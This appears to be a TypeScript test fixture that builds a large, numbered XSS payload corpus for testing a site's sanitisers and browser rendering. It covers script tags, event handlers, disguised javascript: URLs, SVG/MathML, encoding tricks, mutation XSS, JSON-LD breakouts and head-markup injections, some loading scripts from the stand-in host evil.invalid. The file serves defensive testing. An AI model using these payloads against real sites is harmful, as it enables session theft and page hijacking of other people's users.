/*
 * Attack strings written for this site's fields (issue 20, section 6): every markup or text field an
 * administrator or a visitor can fill meets them at the sanitisers (property tests) and in Chromium
 * (tests/e2e/xss-corpus.spec.ts). Each payload carries its own number N and, if it ever runs, makes
 * itself known: it calls the marker `__xss(N)` (the browser test exposes it), opens a dialog
 * (`alert(N)`, `confirm(N)`, `prompt(N)`), or makes a request to `evil.invalid` / 198.51.100.7 (a
 * documentation address) with N in the path. Markers contain no quotes, so a template may put them
 * inside any attribute quoting.
 */

export const xssFamilies = [
  "script",
  "event-handler",
  "url-scheme",
  "svg-mathml",
  "encoding",
  "mutation",
  "json-ld",
  "head-markup",
  "attribute-breakout",
  "css",
  "frames-forms",
  "exfiltration",
] as const;
export type XssFamily = (typeof xssFamilies)[number];

export interface XssPayload {
  id: number;
  family: XssFamily;
  text: string;
}

/** What a template gets: the JavaScript that reports payload n, n itself, and an off-site address for it. */
interface Marker {
  js: string;
  n: number;
  url: string;
}
type Template = (marker: Marker) => string;

const JS_MARKERS = [(n: number) => `__xss(${n})`, (n: number) => `alert(${n})`, (n: number) => `top.__xss(${n})`, (n: number) => `confirm(${n})`, (n: number) => `window.__xss&&__xss(${n})`, (n: number) => `prompt(${n})`];
const OFF_SITE = [(n: number) => `http://evil.invalid/x/${n}`, (n: number) => `https://evil.invalid/${n}.png`, (n: number) => `//evil.invalid/p/${n}`, (n: number) => `http://198.51.100.7/${n}`];

const entities = (text: string, form: "dec" | "hex" | "dec0" | "hexNoSemi") =>
  [...text]
    .map((c) => {
      const code = c.codePointAt(0)!;
      if (form === "dec") return `&#${code};`;
      if (form === "dec0") return `&#000${code}`;
      if (form === "hex") return `&#x${code.toString(16)};`;
      return `&#X${code.toString(16).toUpperCase()}`;
    })
    .join("");
const percent = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
const fullwidth = (text: string) => text.replace(/[\u0021-\u007e]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
const jsEscape = (text: string) => [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const charCodes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(",");

/* ---------------------------------------------------------------------------------------------- */
/* script elements */

const script: Template[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<SCRIPT>${js}</SCRIPT>`,
  ({ js }) => `<ScRiPt>${js}</sCrIpT>`,
  ({ js }) => `<script >${js}</script >`,
  ({ js }) => `<script\n>${js}</script\n>`,
  ({ js }) => `<script\t>${js}</script\t>`,
  ({ js }) => `<script/x>${js}</script>`,
  ({ js }) => `<script/src=data:,${js}></script>`,
  ({ js }) => `<script src="data:text/javascript,${js}"></script>`,
  ({ js }) => `<script src=data:text/javascript;base64,${base64(js)}></script>`,
  ({ js }) => `<script type=module>${js}</script>`,
  ({ js }) => `<script type="text/javascript">${js}</script>`,
  ({ js }) => `<script language=javascript>${js}</script>`,
  ({ js }) => `<script defer>${js}</script>`,
  ({ js }) => `<script async src=//evil.invalid/s.js></script><script>${js}</script>`,
  ({ n }) => `<script src=http://evil.invalid/${n}.js></script>`,
  ({ n }) => `<script src=//198.51.100.7/${n}.js></script>`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<<script>${js}//<</script>`,
  ({ js }) => `<script>/*</script>*/${js}</script>`,
  ({ js }) => `<script><!--\n${js}\n//--></script>`,
  ({ js }) => `<script>//<![CDATA[\n${js}\n//]]></script>`,
  ({ js }) => `<script>setTimeout(function(){${js}})</script>`,
  ({ js }) => `<script>eval(atob(\`${base64(js)}\`))</script>`,
  ({ js }) => `<script>Function(\`${js}\`)()</script>`,
  ({ js }) => `<script>[].constructor.constructor(\`${js}\`)()</script>`,
  ({ js }) => `<script>eval(String.fromCharCode(${charCodes(js)}))</script>`,
  ({ js }) => `<script>${jsEscape("alert")}(0);${js}</script>`,
  ({ js }) => `<script nonce=abc>${js}</script>`,
  ({ js }) => `<script nonce="">${js}</script>`,
  ({ js }) => `<script type="application/ld+json"></script><script>${js}</script>`,
  ({ js }) => `<script type=text/plain>x</script><script>${js}</script>`,
  ({ js }) => `<script\x0c>${js}</script>`,
  ({ js }) => `<script\u0000>${js}</script>`,
  ({ js }) => `<script>${js}`,
  ({ js }) => `<script>${js}<!--<script>-->`,
  ({ js }) => `<script for=window event=onload>${js}</script>`,
  ({ js }) => `<script src=/uploads/x.svg></script><script>${js}</script>`,
  ({ js }) => `<div><script>${js}</script></div>`,
  ({ js }) => `<p>Nifty tip: <script>${js}</script> keeps stops tight.</p>`,
];

/* ---------------------------------------------------------------------------------------------- */
/* event handlers: element/event pairs that fire without a click, in several spellings */

const handlerPairs: [string, string][] = [
  ["img src=x", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video><source src=x", "onerror"],
  ["iframe", "onload"],
  ["object data=x", "onerror"],
  ["marquee", "onstart"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["input type=image src=x", "onerror"],
  ["frameset", "onload"],
  ["div style=animation-name:spin", "onanimationstart"],
  ["div style=transition:color 1ms", "ontransitionend"],
  ["div popover id=p", "onbeforetoggle"],
  ["div contenteditable autofocus", "onfocusin"],
  ["a id=t tabindex=1 autofocus", "onfocus"],
  ["div tabindex=1 autofocus", "onblur"],
  ["form><input autofocus", "oninvalid required"],
  ["body", "onhashchange"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x to=1", "onend"],
  ["div style=width:1px;height:1px;overflow:scroll", "onscroll"],
  ["img src=/favicon.ico", "onload"],
  ["track src=x default", "onerror"],
  ["embed src=x", "onerror"],
  ["p", "onmouseover"],
  ["a href=#", "onclick"],
  ["div", "onpointerenter"],
  ["html", "onmousemove"],
  ["xss", "oncontentvisibilityautostatechange style=content-visibility:auto"],
  ["body", "onbeforeprint"],
];
const handlerSpellings: ((element: string, event: string, js: string) => string)[] = [
  (element, event, js) => `<${element} ${event}=${js}>`,
  (element, event, js) => `<${element} ${event}="${js}">`,
  (element, event, js) => `<${element.replace(/ /g, "/")}/${event}='${js}'>`,
  (element, event, js) => `<${element}\n${event.toUpperCase()}\n=\n${js}>`,
];
const eventHandler: Template[] = handlerPairs.flatMap(([element, event], index) => [
  ({ js }: Marker) => handlerSpellings[index % 4]!(element, event, js),
  ({ js }: Marker) => handlerSpellings[(index + 1) % 4]!(element, event, js),
]);
eventHandler.push(
  ({ js }) => `<img src=x onerror=${jsEscape("alert")}(0)||${js}>`,
  ({ js }) => `<img src=x onerror="&#x61;lert(0);${js}">`,
  ({ js }) => `<img src=x onerror=eval(atob(\`${base64(js)}\`))>`,
  ({ js }) => `<img src=x onerror=location=\`javascript:${js}\`>`,
  ({ js }) => `<img src=x onerror\x0c=${js}>`,
  ({ js }) => `<img src=x onerror =${js} onerror=${js}>`,
  ({ js }) => `<img src=x:x oNeRrOr=${js}>`,
  ({ js }) => `<img src=\`x\`onerror=${js}>`,
  ({ js }) => `<img src="x"onerror="${js}">`,
  ({ js }) => `<img """><script>${js}</script>">`,
  ({ js }) => `<img src=x onerror=with(document)body.appendChild(createElement(\`script\`)).text=\`${js}\`>`,
  ({ js }) => `<body onload=${js}><p>course</p>`,
);

/* ---------------------------------------------------------------------------------------------- */
/* javascript:, data: and vbscript: addresses, plain and disguised */

const schemeSpellings: ((js: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\tjavascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\rscript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `java&Tab;script:${js}`,
  (js) => `java&NewLine;script:${js}`,
  (js) => `${entities("javascript:", "dec")}${js}`,
  (js) => `${entities("javascript:", "hex")}${js}`,
  (js) => `${entities("javascript:", "dec0")}${js}`,
  (js) => `${entities("javascript", "hexNoSemi")}:${js}`,
  (js) => `&#106ava&#115cript:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `javascript://evil.invalid/%0d%0a${js}`,
  (js) => `javascript:/**/${js}`,
  (js) => `javascript:void(0);${js}`,
  (js) => `javascript%3A${js}`,
  (js) => `${percent("javascript")}:${js}`,
  (js) => `vbscript:msgbox(0)&${js}`,
  (js) => `VBScript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${base64(`<script>${js}</script>`)}`,
  (js) => `data:image/svg+xml,<svg onload=${js}>`,
  (js) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}`,
  (js) => `DATA:text/html,<img src=x onerror=${js}>`,
  (js) => `data:application/javascript,${js}`,
  (js) => `data:,${js}`,
  (js) => `d&#97;ta:text/html,<script>${js}</script>`,
  (js) => `livescript:${js}`,
  (js) => `mocha:${js}`,
  (js) => `feed:javascript:${js}`,
  (js) => `jar:javascript:${js}`,
];
const schemeCarriers: ((url: string) => string)[] = [
  (url) => `<a href="${url}">Open the course</a>`,
  (url) => `<a href='${url}' title=x>x</a>`,
  (url) => `<a href=${url.replace(/ /g, "&#32;")}>x</a>`,
  (url) => `<img src="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
];
const urlScheme: Template[] = schemeSpellings.flatMap((spelling, index) => [
  ({ js }: Marker) => schemeCarriers[index % schemeCarriers.length]!(spelling(js)),
  ({ js }: Marker) => schemeCarriers[(index + 2) % schemeCarriers.length]!(spelling(js)),
]);
urlScheme.push(
  ({ js }) => `javascript:${js}`,
  ({ js }) => `JAVASCRIPT:${js}`,
  ({ js }) => `data:text/html,<script>${js}</script>`,
  ({ js }) => `vbscript:${js}`,
  ({ js }) => `<area href=javascript:${js} shape=default>`,
  ({ js }) => `<map name=m><area href=javascript:${js} shape=rect coords=0,0,999,999></map><img usemap=#m src=x>`,
  ({ js }) => `<a href="jav&#x09;ascript:${js}" target=_self>x</a>`,
  ({ js }) => `<a href="https://evil.invalid" onclick=${js}>x</a>`,
  ({ js }) => `<a href="  &#14;javascript:${js}">x</a>`,
  ({ js }) => `<a href=/x/../javascript:${js}>x</a>`,
  ({ js }) => `<a href="http://x:javascript:${js}">x</a>`,
  ({ js }) => `<a href="mailto:x@y.test?body=</a><script>${js}</script>">x</a>`,
  ({ js }) => `<a href="tel:+91<script>${js}</script>">x</a>`,
);

/* ---------------------------------------------------------------------------------------------- */
/* SVG and MathML: their own parsing rules and namespaces */

const svgMathml: Template[] = [
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script href=data:,${js} /></svg>`,
  ({ js }) => `<svg><script xlink:href=data:,${js}></script></svg>`,
  ({ js }) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`,
  ({ js }) => `<svg><script>&#x61;lert(0);${js}</script></svg>`,
  ({ js }) => `<svg onload=${js}></svg>`,
  ({ js }) => `<svg/onload=${js}>`,
  ({ js }) => `<svg><g onload=${js}></g></svg>`,
  ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  ({ js }) => `<svg><set attributeName=onmouseover to=${js}></svg>`,
  ({ js }) => `<svg><a><animate attributeName=href values=javascript:${js} /><text x=20 y=20>Chart</text></a></svg>`,
  ({ js }) => `<svg><a xlink:href="javascript:${js}"><rect width=100 height=100 /></a></svg>`,
  ({ js }) => `<svg><a href="javascript:${js}"><circle r=50 /></a></svg>`,
  ({ js }) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${js} /></svg>#x"></svg>`,
  ({ n }) => `<svg><use href="//evil.invalid/${n}.svg#x"/></svg>`,
  ({ n }) => `<svg><image href="http://evil.invalid/${n}.png"/></svg>`,
  ({ js }) => `<svg><image href=x onerror=${js} /></svg>`,
  ({ js }) => `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
  ({ js }) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  ({ js }) => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
  ({ js }) => `<svg><title><img src=x onerror=${js}></title></svg>`,
  ({ js }) => `<svg><discard onbegin=${js} /></svg>`,
  ({ js }) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler></svg>`,
  ({ js }) => `<svg><feImage href="javascript:${js}"/></svg>`,
  ({ n }) => `<svg><filter><feImage href="http://evil.invalid/${n}"/></filter></svg>`,
  ({ js }) => `<svg><style>&lt;img src=x onerror=${js}&gt;</style></svg>`,
  ({ js }) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  ({ js }) => `<svg><iframe src=javascript:${js}></svg>`,
  ({ js }) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
  ({ js }) => `<svg><!--><img src=x onerror=${js}>--></svg>`,
  ({ js }) => `<svg><p><style><img src=x onerror=${js}></style></p></svg>`,
  ({ js }) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
  ({ js }) => `<math href="javascript:${js}"><mi>x</mi></math>`,
  ({ js }) => `<math><maction actiontype=statusline xlink:href=javascript:${js}>x<mtext>y</mtext></maction></math>`,
  ({ js }) => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  ({ js }) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
  ({ js }) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  ({ js }) => `<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  ({ js }) => `<math><semantics><annotation-xml encoding=text/html><script>${js}</script></annotation-xml></semantics></math>`,
  ({ js }) => `<math><style><img src=x onerror=${js}></style></math>`,
  ({ js }) => `<math><mi><svg><style><img src=x onerror=${js}></style></svg></mi></math>`,
  ({ js }) => `<svg><mtext><img src=x onerror=${js}></mtext></svg>`,
  ({ js }) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#106;avascript:${js}"><text>x</text></a></svg>`,
  ({ js }) => `<svg><animate xlink:href=#a attributeName=href from=javascript:${js} to=1 /><a id=a><text>x</text></a></svg>`,
  ({ js }) => `<svg><set href=#s attributeName=href to=javascript:${js} /><a id=s><text>x</text></a></svg>`,
  ({ js }) => `<svg width=10 height=10 style=background:red onmouseover=${js}></svg>`,
  ({ js }) => `<svg><polyline points=0,0 onload=${js} /></svg>`,
  ({ js }) => `<svg><svg onload=${js}></svg></svg>`,
  ({ js }) => `<svg><x:script xmlns:x="http://www.w3.org/2000/svg">${js}</x:script></svg>`,
  ({ js }) => `<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=${js}></svg></html>`,
];

/* ---------------------------------------------------------------------------------------------- */
/* encodings: entities, URL encoding, UTF-7, overlong and fullwidth forms, escapes */

const encoding: Template[] = [
  ({ js }) => `&lt;script&gt;${js}&lt;/script&gt;`,
  ({ js }) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  ({ js }) => `&#60;img src=x onerror=${js}&#62;`,
  ({ js }) => `&#x3C;img src=x onerror=${js}&#x3E;`,
  ({ js }) => `&#x3c;svg onload=${js}&#x3e;`,
  ({ js }) => `&#0000060script&#0000062${js}&#0000060/script&#0000062`,
  ({ js }) => `&LT;script&GT;${js}&LT;/script&GT;`,
  ({ js }) => `%3Cscript%3E${js}%3C%2Fscript%3E`,
  ({ js }) => `%253Cscript%253E${js}%253C%252Fscript%253E`,
  ({ js }) => percent(`<img src=x onerror=${js}>`),
  ({ js }) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  ({ js }) => `+ADw-img src=x onerror=${js}+AD4-`,
  ({ js }) => `<meta charset=UTF-7>+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  ({ js }) => `\u00c0\u00bcscript\u00c0\u00be${js}\u00c0\u00bc/script\u00c0\u00be`,
  ({ js }) => `\u00e0\u0080\u00bcimg src=x onerror=${js}\u00e0\u0080\u00be`,
  ({ js }) => `%C0%BCscript%C0%BE${js}%C0%BC/script%C0%BE`,
  ({ js }) => `%E0%80%BCscript%E0%80%BE${js}`,
  ({ js }) => fullwidth(`<script>${js}</script>`),
  ({ js }) => `＜img src=x onerror=${js}＞`,
  ({ js }) => `\uff1csvg onload=${js}\uff1e`,
  ({ js }) => `\u2039script\u203a${js}\u2039/script\u203a`,
  ({ js }) => `\u003cscript\u003e${js}\u003c/script\u003e`,
  ({ js }) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  ({ js }) => `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
  ({ js }) => `\\74script\\76${js}\\74/script\\76`,
  ({ js }) => `<scr\u0000ipt>${js}</scr\u0000ipt>`,
  ({ js }) => `<img src=x one\u0000rror=${js}>`,
  ({ js }) => `<img\u0000src=x\u0000onerror=${js}>`,
  ({ js }) => `\ufeff<script>${js}</script>`,
  ({ js }) => `<scri\u200bpt>${js}</scri\u200bpt>`,
  ({ js }) => `<img src=x on\u00aderror=${js}>`,
  ({ js }) => `\u202e>tpircs/<${js}>tpircs<`,
  ({ js }) => `<img src=x onerror=${jsEscape("alert")}(0),${js}>`,
  ({ js }) => `<img src=x onerror=\\u0061lert(0);${js}>`,
  ({ js }) => `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(0);${js}>`,
  ({ js }) => `<img src=x onerror=&#x0000000061;lert(0),${js}>`,
  ({ js }) => `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${entities(js, "hex")}">x</a>`,
  ({ js }) => `<a href="javascript:${percent(js)}">x</a>`,
  ({ js }) => `<img src=x onerror=eval(decodeURIComponent(\`${percent(js)}\`))>`,
  ({ js }) => `<img src=x onerror=eval(String.fromCharCode(${charCodes(js)}))>`,
  ({ js }) => `<img src=x onerror=eval(\`\\x${js.charCodeAt(0).toString(16)}${js.slice(1)}\`)>`,
  ({ js }) => `PHNjcmlwdD4=${base64(`<script>${js}</script>`)}`,
  ({ js }) => `<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-${js}+ADw-/script+AD4-"></iframe>`,
  ({ js }) => `<a href="data:text/html;charset=utf-16,${encodeURIComponent(`<script>${js}</script>`)}">x</a>`,
  ({ js }) => `&#x26;#x3C;script&#x26;#x3E;${js}`,
  ({ js }) => `<img src=x onerror=${js}&#x3E;<!--`,
  ({ js }) => `<IMG SRC=x ONERROR=${js.toUpperCase()}>`,
  ({ js }) => `\u0130mg src=x onerror=${js}`,
  ({ js }) => `<ſcript>${js}</ſcript>`,
  ({ js }) => `<scrİpt>${js}</scrİpt>`,
];

/* ---------------------------------------------------------------------------------------------- */
/* mutation XSS: markup whose meaning changes when it is parsed, serialised and parsed again */

const mutation: Template[] = [
  ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  ({ js }) => `<noscript><style></noscript><img src=x onerror=${js}></style></noscript>`,
  ({ js }) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>"></style></svg>`,
  ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${js}&gt;">`,
  ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  ({ js }) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${js}>"></style></h1>`,
  ({ js }) => `<template><style></template><img src=x onerror=${js}></style></template>`,
  ({ js }) => `<template><img src=x onerror=${js}></template>`,
  ({ js }) => `<template><script>${js}</script></template><div id=t></div>`,
  ({ js }) => `<textarea></textarea><img src=x onerror=${js}>`,
  ({ js }) => `<textarea><img title="</textarea><img src=x onerror=${js}>"></textarea>`,
  ({ js }) => `<title><img title="</title><img src=x onerror=${js}>"></title>`,
  ({ js }) => `<xmp><img title="</xmp><img src=x onerror=${js}>"></xmp>`,
  ({ js }) => `<iframe><img title="</iframe><img src=x onerror=${js}>"></iframe>`,
  ({ js }) => `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
  ({ js }) => `<noframes><img title="</noframes><img src=x onerror=${js}>"></noframes>`,
  ({ js }) => `<plaintext><img src=x onerror=${js}>`,
  ({ js }) => `<style><img title="</style><img src=x onerror=${js}>"></style>`,
  ({ js }) => `<style></style\x20><img src=x onerror=${js}>`,
  ({ js }) => `<!--><img src=x onerror=${js}>-->`,
  ({ js }) => `<!---><img src=x onerror=${js}>-->`,
  ({ js }) => `<!--!><img src=x onerror=${js}>-->`,
  ({ js }) => `<!-- --!><img src=x onerror=${js}>-->`,
  ({ js }) => `<!--<img src="--><img src=x onerror=${js}//">`,
  ({ js }) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  ({ js }) => `<? ><img src=x onerror=${js}> ?>`,
  ({ js }) => `</ ><img src=x onerror=${js}>`,
  ({ js }) => `<!DOCTYPE x><img src=x onerror=${js}>`,
  ({ js }) => `<a title="a</a><img src onerror=${js}>">x</a>`,
  ({ js }) => `<p title="</p><img src=x onerror=${js}>">x</p>`,
  ({ js }) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${js}//"></svg>`,
  ({ js }) => `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${js}>">`,
  ({ js }) => `<table><td><svg><desc><style><img src=x onerror=${js}></style></desc></svg></td></table>`,
  ({ js }) => `<p><svg><style>*{}</style><img src=x onerror=${js}></svg></p>`,
  ({ js }) => `<table><caption><svg><style></table><img src=x onerror=${js}></style></svg>`,
  ({ js }) => `<select><style></select><img src=x onerror=${js}></style></select>`,
  ({ js }) => `<select><keygen><img src=x onerror=${js}></select>`,
  ({ js }) => `<object><param name=x value="</object><img src=x onerror=${js}>"></object>`,
  ({ js }) => `<table><a title="</table><img src=x onerror=${js}>"></a></table>`,
  ({ js }) => `<table><tr><td>x</td></tr><img src=x onerror=${js}></table>`,
  ({ js }) => `<li><ul><li></ul><img src=x onerror=${js}></li>`,
  ({ js }) => `<pre>\n<img src=x onerror=${js}></pre>`,
  ({ js }) => `<code><![CDATA[</code><img src=x onerror=${js}>]]>`,
  ({ js }) => `<blockquote cite="</blockquote><img src=x onerror=${js}>">x</blockquote>`,
  ({ js }) => `<img alt="<x" title="/><img src=x onerror=${js}>">`,
  ({ js }) => `<a href="https://x.test/" title="&quot;&gt;&lt;img src=x onerror=${js}&gt;">x</a>`,
  ({ js }) => `<div id="<img src=x onerror=${js}>"></div>`,
  ({ js }) => `<h2 id=x><svg><style>&lt;/style&gt;&lt;img src=x onerror=${js}&gt;</style></svg></h2>`,
  ({ js }) => `<strong><noscript><strong title="</noscript><svg onload=${js}>"></strong></noscript></strong>`,
  ({ js }) => `<form id=f><input name=action value=javascript:${js}></form>`,
];

/* ---------------------------------------------------------------------------------------------- */
/* structured data: a JSON-LD box that tries to leave its <script> element */

const ld = (name: string, extra = "") => `{"@context":"https://schema.org","@type":"Course","name":${JSON.stringify(name)}${extra}}`;
const jsonLd: Template[] = [
  ({ js }) => ld(`</script><script>${js}</script>`),
  ({ js }) => ld(`</SCRIPT ><img src=x onerror=${js}>`),
  ({ js }) => ld(`<!--<script>${js}</script>`),
  ({ js }) => ld(`<!--`, `,"description":"<script>${js}</script>"`),
  ({ js }) => ld(`]]></script><svg onload=${js}>`),
  ({ js }) => ld(`\u2028${js}\u2029`),
  ({ js }) => ld(`x`, `,"url":"javascript:${js}"`),
  ({ js }) => ld(`x`, `,"image":"data:image/svg+xml,<svg onload=${js}>"`),
  ({ js }) => ld(`x`, `,"sameAs":["javascript:${js}"]`),
  ({ js }) => `<script type="application/ld+json">${ld("x")}</script><script>${js}</script>`,
  ({ js }) => `<script type="application/ld+json">${ld(`</script><script>${js}</script>`)}</script>`,
  ({ js }) => `<script type=application/ld+json>${ld("x")}</script ><img src=x onerror=${js}>`,
  ({ js }) => `${ld("x")}</script><script>${js}</script>`,
  ({ js }) => `[${ld("a")},${ld(`</script><img src=x onerror=${js}>`)}]`,
  ({ js }) => `{"@context":"https://schema.org","@type":"Course","</script><script>${js}</script>":1}`,
  ({ js }) => `{"@context":"https://schema.org","@graph":[{"@type":"Thing","name":"<\\/script><script>${js}<\\/script>"}]}`,
  ({ js }) => `{"@context":"https://schema.org","@type":"Thing","name":"\\u003c/script\\u003e\\u003cscript\\u003e${js}\\u003c/script\\u003e"}`,
  ({ js }) => `{"@context":"https://schema.org","@type":"Thing","name":"&lt;/script&gt;&lt;script&gt;${js}&lt;/script&gt;"}`,
  ({ js }) => `{"@context":"https://schema.org","@type":"<img src=x onerror=${js}>"}`,
  ({ js }) => `{"@context":"https://schema.org","@type":["Thing","</script><script>${js}</script>"]}`,
  ({ js }) => `{"@context":"https://schema.org","@type":"Thing","__proto__":{"x":"</script><script>${js}</script>"}}`,
  ({ js }) => `{"@context":"javascript:${js}","@type":"Thing"}`,
  ({ js }) => `{"@context":"https://schema.org","@type":"Thing","name":"x"}<!--</script><script>${js}</script>`,
  ({ js }) => `<script type="application/ld+json"><!--</script><script>${js}</script>-->`,
  ({ js }) => `<script type="text/javascript">${js}</script>`,
  ({ js }) => ld(`<script>${js}</script>`, `,"description":"<img src=x onerror=${js}>"`),
  ({ js }) => ld(`x`, `,"publisher":{"@type":"Organization","logo":"javascript:${js}"}`),
  ({ js }) => ld(`</script\t><script>${js}</script>`),
  ({ js }) => ld(`</script/x><script>${js}</script>`),
  ({ js }) => ld(`</script><script>${js}</script>`),
];

/* ---------------------------------------------------------------------------------------------- */
/* head markup: the SEO boxes that take <meta> and <link> tags */

const headMarkup: Template[] = [
  ({ js }) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  ({ url }) => `<meta http-equiv=Refresh content="0; URL='${url}'">`,
  ({ url }) => `<meta content="1;${url}" http-equiv="REFRESH">`,
  ({ js }) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${js}</script>`)}">`,
  ({ url }) => `<meta name="x" content="0;url=${url}" http-equiv="refresh">`,
  ({ url }) => `<meta property="og:title" content="x"><meta http-equiv="refresh" content="0;url=${url}">`,
  ({ url }) => `<base href="${url}/">`,
  ({ js }) => `<base href="javascript:${js}//">`,
  ({ url }) => `<base target="_top" href="${url}">`,
  ({ url }) => `<link rel="stylesheet" href="${url}">`,
  ({ url }) => `<link rel=import href="${url}">`,
  ({ url }) => `<link rel=prefetch href="${url}">`,
  ({ url }) => `<link rel=preload as=script href="${url}">`,
  ({ url }) => `<link rel=modulepreload href="${url}">`,
  ({ url }) => `<link rel=preconnect href="${url}">`,
  ({ url }) => `<link rel=dns-prefetch href="${url}">`,
  ({ url }) => `<link rel=prerender href="${url}">`,
  ({ url }) => `<link rel=icon href="${url}">`,
  ({ n }) => `<link rel=icon href="/\\evil.invalid/${n}.ico">`,
  ({ n }) => `<link rel=icon href="\\\\evil.invalid/${n}.ico">`,
  ({ n }) => `<link rel="apple-touch-icon" href=" //evil.invalid/${n}.png">`,
  ({ url }) => `<link rel=manifest href="${url}">`,
  ({ url }) => `<link rel="ICON" href="${url}">`,
  ({ url }) => `<link rel="icon stylesheet" href="${url}">`,
  ({ url }) => `<link rel="alternate stylesheet" href="${url}">`,
  ({ js }) => `<link rel=alternate href="javascript:${js}">`,
  ({ js }) => `<link rel=alternate hreflang=en href="JaVaScRiPt:${js}">`,
  ({ js }) => `<link rel=author href="data:text/html,<script>${js}</script>">`,
  ({ js }) => `<link rel=alternate href=x onload=${js}>`,
  ({ js }) => `<link rel=alternate href="https://x.test" onerror=${js}>`,
  ({ js }) => `<meta property="og:image" content="javascript:${js}">`,
  ({ js }) => `<meta property="og:url" content="data:text/html,<script>${js}</script>">`,
  ({ js }) => `<meta name="twitter:image" content="vbscript:${js}">`,
  ({ url }) => `<meta name="referrer" content="unsafe-url"><link rel=icon href="${url}">`,
  ({ url }) => `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${url}">`,
  ({ js }) => `<meta http-equiv="set-cookie" content="x=${js}">`,
  ({ js }) => `<meta charset="UTF-7"><meta name=x content="+ADw-script+AD4-${js}+ADw-/script+AD4-">`,
  ({ js }) => `<meta name="description" content="x" onload="${js}">`,
  ({ js }) => `<meta name="description" content="&quot;&gt;&lt;script&gt;${js}&lt;/script&gt;">`,
  ({ js }) => `<meta name="description" content="</title><script>${js}</script>">`,
  ({ js }) => `<meta itemprop="name" content="x"><script>${js}</script>`,
  ({ js }) => `<meta name=google-site-verification content=abc><style>@import "javascript:${js}";</style>`,
  ({ js }) => `<meta name="x" content="y"><svg onload=${js}>`,
  ({ js }) => `<meta name="x" content="y" <img src=x onerror=${js}>>`,
  ({ js }) => `<meta name="x" content="y"><!--><img src=x onerror=${js}>-->`,
  ({ js }) => `<title></title><script>${js}</script>`,
  ({ js }) => `<noscript><meta http-equiv=refresh content="0;url=javascript:${js}"></noscript>`,
  ({ js }) => `<template><meta http-equiv=refresh content="0;url=javascript:${js}"></template>`,
  ({ url }) => `<meta name="msapplication-config" content="${url}">`,
];

/* ---------------------------------------------------------------------------------------------- */
/* breaking out of an attribute, a text element or a script string */

